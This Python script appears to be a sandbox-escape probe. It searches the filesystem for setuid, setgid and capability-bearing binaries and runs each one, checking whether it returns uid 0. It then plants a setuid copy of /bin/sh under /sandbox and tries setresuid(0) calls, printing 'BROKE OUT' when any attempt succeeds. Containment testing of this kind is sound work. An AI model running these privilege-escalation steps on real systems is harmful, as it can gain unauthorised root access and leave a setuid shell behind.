"""Looks for programs that make it root, runs those it finds, and makes its own."""

import ctypes
import os
import shutil
import stat
import subprocess

found = []
for top, directories, files in os.walk("/"):
    directories[:] = [name for name in directories if os.path.join(top, name) not in ("/proc", "/sys")]
    for name in files:
        path = os.path.join(top, name)
        try:
            facts = os.lstat(path)
            if stat.S_ISREG(facts.st_mode) and facts.st_mode & (stat.S_ISUID | stat.S_ISGID):
                found.append(path)
            if "security.capability" in os.listxattr(path, follow_symlinks=False):
                found.append(path)
        except OSError:
            continue
for path in found:
    name = os.path.basename(path)
    for command in ([path, "-c", "id -u"], [path, "-p", "-c", "id -u"], [path, "--help"]):
        try:
            done = subprocess.run(command, capture_output=True, timeout=3, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if done.stdout.strip() == b"0":
            print("BROKE OUT: root by", name, flush=True)
shutil.copy("/bin/sh", "/sandbox/sh")
os.chmod("/sandbox/sh", 0o6755)
if subprocess.run(["/sandbox/sh", "-p", "-c", "id -u"], capture_output=True).stdout.strip() == b"0":
    print("BROKE OUT: its own program is root")
for name in ("setresuid", "setresgid", "setfsuid"):
    getattr(ctypes.CDLL(None), name)(0, 0, 0)
if 0 in (*os.getresuid(), *os.getresgid()):
    print("BROKE OUT: became root")
print("looked at", len(found), flush=True)
